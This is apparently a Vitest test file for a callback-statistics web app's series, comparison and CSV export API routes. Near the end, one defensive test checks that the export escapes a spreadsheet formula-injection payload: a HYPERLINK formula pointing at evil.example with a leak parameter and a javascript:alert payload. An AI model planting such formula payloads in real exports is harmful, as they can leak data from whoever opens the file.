// The time dimension against the simulator: /api/stats/series (one cached call per bucket,
// partial under the rate limit, stale on upstream errors), the comparison in /api/stats, and
// the CSV export, through the real route handlers with real session cookies.
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { GET as getSeries } from '@/app/api/stats/series/route';
import { GET as getExport } from '@/app/api/stats/export/route';
import { GET as getStats } from '@/app/api/stats/route';
import type { ErrorEnvelope } from '@/lib/http';
import type { toComparisonJson } from '@/lib/stats/comparison';
import type { toSeriesJson } from '@/lib/stats/series';
import { resetUpstreamState } from '@/lib/talkover/upstream-state';
import { resetSettings } from '@/lib/settings/define-settings';
import { getStatsForRange } from '@/simulator/data';
import { fakeDateClock, ManualClock } from '../support/manual-clock';
import { setUpStatsRoute, type StatsRouteBody } from '../support/stats-route';

const TOKEN = 'talq_trends_canary_6b2e9d41c7';
const route = setUpStatsRoute({ token: TOKEN, simulatorRateLimitPerMinute: 100_000 });
let clock: ManualClock;

type SeriesBody = ReturnType<typeof toSeriesJson> & ErrorEnvelope;
type SeriesBucket = SeriesBody['buckets'][number];
type ComparedBody = StatsRouteBody & { comparison: ReturnType<typeof toComparisonJson> };

const series = (query: string) => route.call<SeriesBody>(getSeries, `/api/stats/series${query}`);
const compared = (query: string) => route.call<ComparedBody>(getStats, `/api/stats${query}`);
const csv = (query: string, headers: Record<string, string> = {}) => route.call<ErrorEnvelope>(getExport, `/api/stats/export${query}`, headers);
const loadedOf = (buckets: SeriesBucket[]) => buckets.filter((bucket) => bucket.totals !== null);

function expectSimulatorFigures(bucket: SeriesBucket, start: string, end: string) {
  const expected = getStatsForRange(start, end);
  expect(bucket.totals?.received).toBe(expected.total_callbacks_received);
  expect(bucket.totals?.answered).toBe(expected.callbacks_answered);
  expect(bucket.totals?.unmatched).toBe(expected.callbacks_unmatched);
  const counts = Object.fromEntries((bucket.sources ?? []).map((source) => [source.id, source.count]));
  expect(counts).toEqual(Object.fromEntries(expected.callbacks_by_source_agent.map((source) => [source.source_agent_id, source.count])));
}

beforeEach(() => {
  clock = new ManualClock();
  resetUpstreamState(clock);
});

describe('GET /api/stats/series', () => {
  test('weekly buckets (Monday weeks, clipped) equal the simulator’s sums of their days', async () => {
    const { status, body, headers } = await series('?start_date=2025-01-01&end_date=2025-01-31&interval=week');
    expect(status).toBe(200);
    expect(headers.get('cache-control')).toBe('private, no-store');
    expect(body.interval).toBe('week');
    expect(body.week_start).toBe('monday');
    expect(body.period).toEqual({ start_date: '2025-01-01', end_date: '2025-01-31', timezone: 'UTC' });
    expect(body.buckets.map((b) => [b.start_date, b.end_date, b.partial])).toEqual([
      ['2025-01-01', '2025-01-05', true],
      ['2025-01-06', '2025-01-12', false],
      ['2025-01-13', '2025-01-19', false],
      ['2025-01-20', '2025-01-26', false],
      ['2025-01-27', '2025-01-31', true],
    ]);
    for (const bucket of body.buckets) expectSimulatorFigures(bucket, bucket.start_date, bucket.end_date);
    const sum = body.buckets.reduce((total, b) => total + (b.totals?.received ?? 0), 0);
    expect(sum).toBe(getStatsForRange('2025-01-01', '2025-01-31').total_callbacks_received);
    expect(body.meta).toEqual({ complete: true, missing: [], fetched_at: new Date(clock.now()).toISOString(), stale: false });
    expect(route.simulator.requestCount()).toBe(5);
  });

  test('daily buckets by default for 10 days, Sunday weeks with APP_WEEK_START=sunday', async () => {
    const daily = await series('?start_date=2025-03-01&end_date=2025-03-10');
    expect(daily.body.interval).toBe('day');
    expect(daily.body.buckets).toHaveLength(10);
    for (const bucket of daily.body.buckets) expectSimulatorFigures(bucket, bucket.start_date, bucket.start_date);

    vi.stubEnv('APP_WEEK_START', 'sunday');
    resetSettings(); // settings are parsed once per process
    const weekly = await series('?start_date=2025-03-01&end_date=2025-03-10&interval=week');
    expect(weekly.body.week_start).toBe('sunday');
    expect(weekly.body.buckets.map((b) => b.start_date)).toEqual(['2025-03-01', '2025-03-02', '2025-03-09']);
  });

  test('a bucket and the same range opened directly share one cache entry', async () => {
    await series('?start_date=2025-01-06&end_date=2025-01-19&interval=week');
    expect(route.simulator.requestCount()).toBe(2);
    const direct = await compared('?start_date=2025-01-13&end_date=2025-01-19');
    expect(direct.body.meta.cache).toBe('hit');
    expect(route.simulator.requestCount()).toBe(2);
  });

  test.each([
    ['?range=30d&interval=hour', 'invalid_interval'],
    ['?start_date=2025-01-01&end_date=2025-04-30&interval=day', 'interval_too_fine'],
    ['?range=30d&interval=day&interval=week', 'repeated_param'],
    ['?range=30d&compare=lastyear', 'invalid_compare'],
    ['?start_date=2025-03-10&end_date=2025-03-01', 'reversed_range'],
  ])('answers 400 for %s (%s) without calling Talkover, as /api/stats does', async (query, code) => {
    for (const answer of [await series(query), await compared(query), await csv(query)]) {
      expect(answer.status).toBe(400);
      expect(answer.body.error.code).toBe(code);
    }
    expect(route.simulator.requestCount()).toBe(0);
  });

  test('answers 401 without a session', async () => {
    route.signOut();
    expect((await series('?range=7d')).status).toBe(401);
    expect((await csv('?range=7d')).status).toBe(401);
    expect(route.simulator.requestCount()).toBe(0);
  });

  test('with every bucket failing and nothing cached, answers the cause like /api/stats', async () => {
    route.simulator.setFault({ mode: 'unauthorized' });
    const { status, body } = await series('?start_date=2025-01-01&end_date=2025-01-07');
    expect(status).toBe(502);
    expect(body.error.code).toBe('upstream_rejected_token');
  });
});

describe('series under the rate limit (TALKOVER_RATE_LIMIT_PER_MINUTE=10)', () => {
  // The members' shares count minutes on Date, so Date is the clock here.
  beforeEach(() => {
    vi.stubEnv('TALKOVER_RATE_LIMIT_PER_MINUTE', '10');
    vi.useFakeTimers({ toFake: ['Date'], now: clock.now() });
    resetUpstreamState(fakeDateClock((ms) => vi.setSystemTime(ms)));
  });
  afterEach(() => vi.useRealTimers());
  const RANGE = '?start_date=2025-01-01&end_date=2025-03-31'; // 90 days

  test('a 90-day daily series completes partially with meta.missing, and never delays the totals', async () => {
    const before = Date.now();
    const [trend, totals] = await Promise.all([series(`${RANGE}&interval=day`), compared(`${RANGE}&compare=previous`)]);

    // The totals and their comparison went out at once, from the part of the member's share
    // (4 misses a minute at this limit) that buckets may not take.
    expect(totals.status).toBe(200);
    expect(totals.body.meta.cache).toBe('miss');
    expect(totals.body.comparison.totals).not.toBeNull();
    expect(Date.now()).toBe(before);

    // Buckets took their part of the share (2), and not one call further.
    expect(trend.status).toBe(200);
    const loaded = loadedOf(trend.body.buckets);
    expect(loaded).toHaveLength(2);
    expect(trend.body.meta.complete).toBe(false);
    expect(trend.body.meta.missing).toHaveLength(90 - loaded.length);
    expect(trend.body.buckets.filter((b) => b.totals === null).map((b) => b.start_date)).toEqual(
      trend.body.meta.missing.map((m) => m.start_date),
    );
    for (const bucket of loaded) expectSimulatorFigures(bucket, bucket.start_date, bucket.end_date);
    expect(route.simulator.requestCount()).toBe(loaded.length + 2);

    // With the share spent, a series gets nothing yet: still a 200 that says so, never an error.
    const empty = await series('?start_date=2025-05-01&end_date=2025-05-07');
    expect(empty.status).toBe(200);
    expect(empty.body.meta).toMatchObject({ complete: false, fetched_at: null });
    expect(empty.body.meta.missing).toHaveLength(7);

    // A minute later, asking again ("load the rest") loads the next 2 (the budget's series calls
    // may fill 8 of its 16 in two minutes: 4 were spent). What was loaded is cached.
    vi.setSystemTime(Date.now() + 60_001);
    const again = await series(`${RANGE}&interval=day`);
    expect(loadedOf(again.body.buckets)).toHaveLength(loaded.length + 2);
    expect(route.simulator.requestCount()).toBe(loaded.length + 4);
  });
});

test('bucket calls are charged to the member’s share but never take all of it: after a 45-day daily series, their own totals still load', async () => {
  // At 100/min a member may cause 40 cache misses a minute, 32 of them buckets: the series loads
  // 32 of its 45 days now, and the view's totals and comparison take 2 of the 8 left.
  const trend = await series('?start_date=2025-01-01&end_date=2025-02-14&interval=day');
  expect(trend.status).toBe(200);
  expect(loadedOf(trend.body.buckets)).toHaveLength(32);
  expect(trend.body.meta.missing).toHaveLength(13);
  const totals = await compared('?start_date=2025-06-01&end_date=2025-06-30&compare=previous');
  expect(totals.status).toBe(200);
  expect(totals.body.comparison.error).toBeNull();
});

describe('stale buckets', () => {
  test('after the closed TTL, a Talkover failure serves every bucket’s last good figures, marked stale', async () => {
    const first = await series('?start_date=2025-01-06&end_date=2025-02-02&interval=week');
    clock.advance(3_600_001);
    route.simulator.setFault({ mode: 'server-error' });
    const stale = await series('?start_date=2025-01-06&end_date=2025-02-02&interval=week');
    expect(stale.status).toBe(200);
    expect(stale.body.meta).toMatchObject({ complete: true, missing: [], stale: true, fetched_at: first.body.meta.fetched_at });
    expect(stale.body.buckets).toEqual(first.body.buckets);
    expect(route.simulator.requestCount()).toBe(8);
  });
});

describe('comparison in GET /api/stats', () => {
  test('without compare, the answer is what it always was: no comparison, one Talkover call', async () => {
    const { body } = await compared('?start_date=2025-02-01&end_date=2025-02-28');
    expect(body).not.toHaveProperty('comparison');
    expect(route.simulator.requestCount()).toBe(1);
  });

  test.each([
    ['previous', '2025-01-04', '2025-01-31'],
    ['year', '2024-02-01', '2024-02-28'],
  ])('compare=%s: the earlier period %s..%s, its figures and the change', async (compare, start, end) => {
    const { status, body } = await compared(`?start_date=2025-02-01&end_date=2025-02-28&compare=${compare}`);
    const now = getStatsForRange('2025-02-01', '2025-02-28');
    const then = getStatsForRange(start, end);
    expect(status).toBe(200);
    expect(body.comparison.period).toEqual({ start_date: start, end_date: end, compare });
    expect(body.comparison.totals?.received).toBe(then.total_callbacks_received);
    expect(body.comparison.change?.received).toBeCloseTo(
      (now.total_callbacks_received - then.total_callbacks_received) / then.total_callbacks_received,
      4,
    );
    const rate = (d: typeof now) => d.callbacks_answered / d.total_callbacks_received;
    expect(body.comparison.change?.answer_rate).toBeCloseTo((rate(now) - rate(then)) * 100, 2);
    expect(body.comparison.error).toBeNull();
    expect(route.simulator.requestCount()).toBe(2);
  });

  test('an earlier period with no callbacks: change is null, never Infinity', async () => {
    const { body } = await compared('?start_date=2024-01-01&end_date=2024-01-31&compare=previous');
    expect(body.comparison.totals?.received).toBe(0);
    expect(body.comparison.change).toEqual({
      received: null,
      answered: null,
      unmatched: null,
      not_answered: null,
      answer_rate: null,
      unmatched_rate: null,
    });
    expect(body.comparison.rates).toEqual({ answer_rate: null, unmatched_rate: null });
  });

  test('when only the comparison fails, the totals still answer and the comparison says why', async () => {
    await compared('?start_date=2025-02-01&end_date=2025-02-28');
    route.simulator.setFault({ mode: 'server-error' });
    const { status, body } = await compared('?start_date=2025-02-01&end_date=2025-02-28&compare=previous');
    expect(status).toBe(200);
    expect(body.totals.received).toBe(getStatsForRange('2025-02-01', '2025-02-28').total_callbacks_received);
    expect(body.comparison).toMatchObject({ totals: null, change: null, error: { code: 'upstream_unavailable' } });
  });
});

describe('GET /api/stats/export', () => {
  const QUERY = '?start_date=2025-03-03&end_date=2025-03-16&interval=week';

  test('a CSV file: BOM, CRLF, totals with the comparison, sources, and one row per bucket', async () => {
    const { status, headers, text } = await csv(QUERY, { 'accept-language': 'en-US' });
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toBe('attachment; filename="callbacks_2025-03-03_2025-03-16.csv"');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const lines = text.slice(1).split('\r\n');
    const now = getStatsForRange('2025-03-03', '2025-03-16');
    const then = getStatsForRange('2025-02-17', '2025-03-02');
    expect(lines).toContain('Compared with,2025-02-17 – 2025-03-02');
    const change = Math.round(((now.total_callbacks_received - then.total_callbacks_received) / then.total_callbacks_received) * 10_000) / 100;
    expect(lines).toContain(`Received,${now.total_callbacks_received},${then.total_callbacks_received},${change},%`);
    const week1 = getStatsForRange('2025-03-03', '2025-03-09');
    expect(lines.find((line) => line.startsWith('2025-03-03,2025-03-09,no,'))).toMatch(
      new RegExp(`^2025-03-03,2025-03-09,no,${week1.total_callbacks_received},${week1.callbacks_answered},`),
    );
    expect(lines.some((line) => line.startsWith('2025-03-10,2025-03-16,no,'))).toBe(true);
  });

  test('a pt-BR viewer gets Portuguese headers, ; and a decimal comma; separator=comma overrides the separator only', async () => {
    const pt = await csv(QUERY, { 'accept-language': 'pt-BR,pt;q=0.9' });
    const ptLines = pt.text.replace(/^\uFEFF/, '').split('\r\n');
    expect(ptLines[0]).toBe('Estatísticas de callbacks');
    expect(ptLines).toContain('Indicador;Este período;Período anterior;Variação;Unidade da variação');
    expect(pt.text).toMatch(/\r\nCallbacks recebidos;\d+;\d+;/);
    expect(pt.text).toMatch(/Taxa de atendimento \(%\);\d+,\d+;\d+,\d+;-?\d+(,\d+)?;pontos percentuais/);
    expect(pt.text).toContain('Intervalo;semana;');
    expect(pt.text).not.toMatch(/Received|Answer rate|Period start/);
    const commas = await csv(`${QUERY}&separator=comma`, { 'accept-language': 'pt-BR' });
    expect(commas.text).toMatch(/Taxa de atendimento \(%\),\d+\.\d+,/);
    // The language menu's cookie wins over the browser's language, as on the pages.
    const chosen = await csv(QUERY, { 'accept-language': 'pt-BR', cookie: 'NEXT_LOCALE=en' });
    expect(chosen.text).toMatch(/\r\nAnswer rate \(%\),\d+\.\d+,/);
    const bad = await csv(`${QUERY}&separator=tab`);
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('invalid_separator');
  });

  test('source names that look like formulas are neutralised', async () => {
    route.simulator.setFault({ mode: 'hostile-names' });
    const { text } = await csv('?start_date=2025-04-01&end_date=2025-04-07', { 'accept-language': 'en-US' });
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak="",""javascript:alert(1)"")"`);
    expect(text).not.toMatch(/(^|[,\n])"?=HYPERLINK/);
  });
});
